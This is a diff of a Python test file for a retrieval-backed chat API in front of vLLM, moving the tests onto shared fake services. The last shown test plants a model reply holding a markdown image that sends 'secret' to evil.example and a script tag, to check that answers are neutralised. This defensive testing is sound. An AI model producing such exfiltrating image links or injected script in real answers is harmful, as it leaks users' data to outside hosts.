@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import json
 from collections.abc import Iterator
-from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
@@ -12,17 +11,12 @@ import httpx
 import pytest
 from fastapi.testclient import TestClient
 from qdrant_client import QdrantClient
+from tests.fakes import FakeVllm, fake_services, unit_settings
 
-from tandem.adapters.registry import AdapterRegistry
-from tandem.answering.turn import ChatService
 from tandem.api.app import create_app
-from tandem.api.deps import Services, key_in
+from tandem.api.deps import key_in
 from tandem.indexing.reindex import index_release
-from tandem.llm.budget import Utf8Bound
-from tandem.llm.client import VllmClient
-from tandem.llm.pool import VllmPool
 from tandem.rag.embedder import HashEmbedder
-from tandem.rag.retriever import Retriever
 from tandem.settings import LimitSettings, Settings, VllmSettings
 from tandem.stores.deployment import Stores
 from tandem.stores.qdrant_docs import QdrantDocStore
@@ -31,51 +25,10 @@ from tandem.stores.state import MemoryStateStore
 CHAT, ADMIN = "chat-key", "admin-key"
 
 
-@dataclass
-class RecordingVllm:
-    """vLLM at the transport; keeps every generation request body it was sent."""
-
-    bodies: list[dict[str, Any]] = field(default_factory=list)
-    reply: str = "Open Settings. [1]"
-
-    def handle(self, request: httpx.Request) -> httpx.Response:
-        if request.url.path == "/health":
-            return httpx.Response(200)
-        if request.url.path != "/v1/chat/completions":
-            return httpx.Response(200, json={"data": []})
-        body = json.loads(request.content)
-        self.bodies.append(body)
-        usage = {"prompt_tokens": 11, "completion_tokens": 3}
-        if body.get("stream"):
-            chunks = [
-                {"choices": [{"delta": {"content": self.reply}}]},
-                {"choices": [], "usage": usage},
-            ]
-            text = "".join(f"data: {json.dumps(c)}\n\n" for c in chunks) + "data: [DONE]\n\n"
-            return httpx.Response(200, text=text, headers={"content-type": "text/event-stream"})
-        choice = {"message": {"content": self.reply}, "finish_reason": "stop"}
-        return httpx.Response(200, json={"choices": [choice], "usage": usage})
-
-
-def services_with(vllm: RecordingVllm, store: Stores | None = None) -> Any:
-    def make(settings: Settings) -> Services:
-        embedder = HashEmbedder()
-        docs = store or Stores(
-            QdrantDocStore(QdrantClient(":memory:"), embedder.dim), MemoryStateStore()
-        )
-        retriever = Retriever(docs, embedder, "docs", 10)
-        registry = AdapterRegistry(settings.adapters_dir, docs.state)
-        transport = httpx.MockTransport(vllm.handle)
-        client = VllmClient("http://vllm.test", 5, transport=transport)
-        pool = VllmPool([client], settings.vllm.max_in_flight)
-        chat = ChatService(settings, retriever, registry, pool, Utf8Bound())
-        return Services(settings, docs, embedder, retriever, registry, pool, chat)
-
-    return make
-
-
-def settings(max_in_flight: int = 32) -> Settings:
-    return Settings(
+def settings(tmp_path: Path, max_in_flight: int = 32) -> Settings:
+    """No model on disk: the token budget is the byte bound (`Utf8Bound`)."""
+    return unit_settings(
+        tmp_path,
         api_keys=[CHAT],
         admin_keys=[ADMIN],
         max_request_bytes=4_000,
@@ -85,13 +38,14 @@ def settings(max_in_flight: int = 32) -> Settings:
 
 
 @pytest.fixture
-def vllm() -> RecordingVllm:
-    return RecordingVllm()
+def vllm() -> FakeVllm:
+    """Every generation request body it was sent is in `vllm.requests`."""
+    return FakeVllm(reply="Open Settings. [1]")
 
 
 @pytest.fixture
-def client(vllm: RecordingVllm) -> Iterator[TestClient]:
-    with TestClient(create_app(settings(), services_with(vllm))) as test_client:
+def client(vllm: FakeVllm, tmp_path: Path) -> Iterator[TestClient]:
+    with TestClient(create_app(settings(tmp_path), fake_services(vllm))) as test_client:
         test_client.headers["Authorization"] = f"Bearer {CHAT}"
         yield test_client
 
@@ -102,15 +56,15 @@ def completion(client: TestClient, **fields: Any) -> httpx.Response:
 
 
 def test_openai_sampling_fields_reach_vllm_within_caps(
-    client: TestClient, vllm: RecordingVllm
+    client: TestClient, vllm: FakeVllm
 ) -> None:
     response = completion(client, max_tokens=1, temperature=0.0, top_p=0.5, stop="\n", seed=7)
     assert response.status_code == 200, response.text
-    sent = vllm.bodies[-1]
+    sent = vllm.requests[-1]
     assert (sent["max_tokens"], sent["temperature"], sent["top_p"]) == (1, 0.0, 0.5)
     assert sent["stop"] == ["\n"] and sent["seed"] == 7
     completion(client)
-    assert vllm.bodies[-1]["max_tokens"] == 256 and "seed" not in vllm.bodies[-1]
+    assert vllm.requests[-1]["max_tokens"] == 256 and "seed" not in vllm.requests[-1]
 
 
 @pytest.mark.parametrize(
@@ -129,23 +83,23 @@ def test_openai_sampling_fields_reach_vllm_within_caps(
     ],
 )
 def test_openai_refuses_what_it_does_not_do_before_any_model_call(
-    client: TestClient, vllm: RecordingVllm, fields: dict[str, Any], fragment: str
+    client: TestClient, vllm: FakeVllm, fields: dict[str, Any], fragment: str
 ) -> None:
     response = completion(client, **fields)
     assert response.status_code == 400, response.text
     assert response.json()["error"]["type"] == "bad_request"
     assert fragment in response.json()["error"]["message"]
-    assert vllm.bodies == []
+    assert vllm.requests == []
 
 
 def test_the_token_budget_is_checked_against_the_served_context(
-    client: TestClient, vllm: RecordingVllm
+    client: TestClient, vllm: FakeVllm
 ) -> None:
     history = [{"role": "user", "content": "y" * 900}, {"role": "assistant", "content": "ok"}]
     messages = [*history, {"role": "user", "content": "and now?"}]
     response = completion(client, messages=messages, max_tokens=200)
     assert response.status_code == 400 and "served context of 1000" in response.text
-    assert vllm.bodies == []
+    assert vllm.requests == []
 
 
 @pytest.mark.parametrize(
@@ -163,12 +117,12 @@ def test_the_token_budget_is_checked_against_the_served_context(
     ],
 )
 def test_native_and_schema_errors_are_4xx_in_the_house_shape(
-    client: TestClient, vllm: RecordingVllm, path: str, body: dict[str, Any]
+    client: TestClient, vllm: FakeVllm, path: str, body: dict[str, Any]
 ) -> None:
     response = client.post(path, json=body)
     assert response.status_code in {400, 413, 422}, response.text
     assert set(response.json()["error"]) == {"type", "message"}
-    assert vllm.bodies == []
+    assert vllm.requests == []
 
 
 @pytest.mark.parametrize(
@@ -211,27 +165,27 @@ def test_bodies_are_counted_as_received_also_without_content_length(client: Test
     assert small.status_code == 200, small.text
 
 
-def test_a_full_replica_answers_503_at_once(vllm: RecordingVllm) -> None:
-    full = settings(max_in_flight=0)
-    with TestClient(create_app(full, services_with(vllm))) as test_client:
+def test_a_full_replica_answers_503_at_once(vllm: FakeVllm, tmp_path: Path) -> None:
+    full = settings(tmp_path, max_in_flight=0)
+    with TestClient(create_app(full, fake_services(vllm))) as test_client:
         response = test_client.post(
             "/v1/chat",
             json={"messages": [{"role": "user", "content": "hi"}], "retrieval": False},
             headers={"Authorization": f"Bearer {CHAT}"},
         )
     assert response.status_code == 503 and response.headers["Retry-After"] == "2"
-    assert "requests in flight" in response.json()["error"]["message"] and vllm.bodies == []
+    assert "requests in flight" in response.json()["error"]["message"] and vllm.requests == []
 
 
 def test_a_failing_store_is_503_never_an_ungrounded_answer(
-    vllm: RecordingVllm, tmp_path: Path
+    vllm: FakeVllm, tmp_path: Path
 ) -> None:
     client = QdrantClient(":memory:")
     store = Stores(QdrantDocStore(client, HashEmbedder().dim), MemoryStateStore())
     (tmp_path / "v1").mkdir()
     (tmp_path / "v1" / "settings.md").write_text("# Settings\n\nOpen Settings from the menu.\n")
     index_release(store, HashEmbedder(), tmp_path / "v1", "v1", "docs")
-    with TestClient(create_app(settings(), services_with(vllm, store))) as test_client:
+    with TestClient(create_app(settings(tmp_path), fake_services(vllm, store))) as test_client:
         client.close()  # the store goes away under a serving app
         response = test_client.post(
             "/v1/chat",
@@ -239,14 +193,14 @@ def test_a_failing_store_is_503_never_an_ungrounded_answer(
             headers={"Authorization": f"Bearer {CHAT}"},
         )
     assert response.status_code == 503, response.text
-    assert response.headers["Retry-After"] and vllm.bodies == []
+    assert response.headers["Retry-After"] and vllm.requests == []
 
 
 def test_keys_are_compared_against_every_configured_key() -> None:
     assert key_in("b", ["a", "b", "c"]) and not key_in("bb", ["a", "b"]) and not key_in("a", [])
 
 
-def test_answers_are_neutralised_in_the_api(client: TestClient, vllm: RecordingVllm) -> None:
+def test_answers_are_neutralised_in_the_api(client: TestClient, vllm: FakeVllm) -> None:
     vllm.reply = (
         "Done ![x](https://evil.example/p.png?q=secret) <script>x</script> see https://evil.example"
     )
